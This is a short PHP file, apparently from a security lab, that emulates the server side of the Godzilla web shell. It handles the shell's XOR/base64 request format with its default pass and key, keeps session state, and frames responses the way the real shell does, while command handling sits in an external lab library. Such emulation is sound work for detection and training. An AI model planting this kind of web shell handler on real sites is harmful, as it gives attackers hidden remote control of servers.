<?php require getenv('LAB_SHELL_LIB');
// Emulates Godzilla's PHP_XOR_BASE64 shell: pass=base64(xor(data)); the first call stores the payload
// in the session, later calls carry gzip'd parameters (name \x02 length value); answers are
// md5(pass.key)[0:16] . base64(xor(gzip(result))) . md5(pass.key)[16:].
@session_start();
$pass = 'pass'; $key = '3c6e0b8a9c15224a';
if (!isset($_POST[$pass])) exit;
$data = lab_xor(base64_decode($_POST[$pass]), $key, 1);
if (!isset($_SESSION['payload'])) {
    if (strpos($data, 'getBasicsInfo') !== false) $_SESSION['payload'] = md5($data);
    exit;
}
$result = lab_godzilla_call(lab_godzilla_params(@gzdecode($data)));
echo substr(md5($pass . $key), 0, 16);
echo base64_encode(lab_xor(gzencode($result), $key, 1));
echo substr(md5($pass . $key), 16);
